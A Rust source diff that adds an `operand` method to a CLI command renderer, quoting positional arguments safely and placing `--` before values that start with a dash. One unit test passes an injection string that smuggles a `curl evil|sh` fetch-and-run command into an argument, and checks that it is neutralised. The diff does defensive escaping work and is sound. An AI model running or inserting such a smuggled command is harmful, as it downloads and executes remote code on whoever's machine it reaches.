@@ -98,6 +98,21 @@ impl Command {
         self
     }
 
+    /// An operand — a positional argument, like the key of `ec2ops incidents show KEY` — written like
+    /// [`Command::arg`]'s value. One starting with `-` comes after `--`, so the program cannot read it as an option.
+    pub fn operand(mut self, placeholder: &str, value: &str) -> Self {
+        match shown(value) {
+            Some(v) => {
+                if v.starts_with('-') {
+                    self.words.push("--".to_string());
+                }
+                self.words.push(word(v));
+            }
+            None => self.words.push(placeholder.to_string()),
+        }
+        self
+    }
+
     /// An option whose value is a structure (SSM `--parameters`, `--tags`): serialized with serde_json, quoted as
     /// one argument. Always exact: JSON escapes whatever could not be shown on one line.
     pub fn json(mut self, option: &str, value: &Value) -> Self {
@@ -313,6 +328,22 @@ mod tests {
         );
         assert!(shown(&"x".repeat(MAX_ARG_CHARS + 1)).is_none());
         assert!(shown("\u{202e}evil").is_none());
+    }
+
+    #[test]
+    fn an_operand_is_one_word_after_dashes_when_it_starts_with_one_and_a_placeholder_when_hidden() {
+        let show = |key: &str| {
+            Command::new("ec2ops incidents show")
+                .operand("KEY", key)
+                .render()
+        };
+        assert_eq!(
+            show("x';curl evil|sh;'#ALARM#t"),
+            r"ec2ops incidents show 'x'\'';curl evil|sh;'\''#ALARM#t'"
+        );
+        assert_eq!(show("-x#ALARM#t"), "ec2ops incidents show -- '-x#ALARM#t'");
+        assert_eq!(show("a\u{202e}b"), "ec2ops incidents show KEY");
+        assert_eq!(show("plain"), "ec2ops incidents show plain");
     }
 
     #[test]
